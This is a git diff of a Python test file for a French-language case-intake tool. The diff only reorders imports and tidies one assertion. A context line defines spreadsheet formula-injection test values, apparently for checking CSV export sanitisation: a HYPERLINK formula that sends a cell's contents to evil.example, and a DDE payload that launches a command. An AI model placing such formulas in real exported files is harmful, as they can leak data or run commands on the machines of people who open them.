@@ -10,17 +10,17 @@ import subprocess
 import zipfile
 from datetime import datetime
 from pathlib import Path
-from zoneinfo import ZoneInfo
 from xml.etree import ElementTree
+from zoneinfo import ZoneInfo
 
 import pytest
 from localsite import NB
 from sqlmodel import select
 
 from intake.commands import samples
+from intake.core.digest import CaseLine, cases_csv
 from intake.store.database import session
 from intake.store.tables import Case
-from intake.core.digest import CaseLine, cases_csv
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"cliquez")', "=1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
             "+33 1 23"]
@@ -195,7 +195,8 @@ def test_values_stored_with_line_breaks_are_shown_on_their_own_line_with_a_mark(
     for args in (("case", ref), ("cases",)):
         code, out = local.cli(*args)
         assert code == 0
-        assert not any(line.startswith(("Statut", "Manquant  : aucun", "À voir    : rien")) for line in out.splitlines()), out
+        shown = ("Statut", "Manquant  : aucun", "À voir    : rien")
+        assert not any(line.startswith(shown) for line in out.splitlines()), out
     out = local.cli("case", ref)[1]
     assert "Projet    : Projet ⏎ " + FAKE_LINES[0] + "\n" in out
     assert "Demandeur : Asso ⏎ " + FAKE_LINES[1] + " <" in out
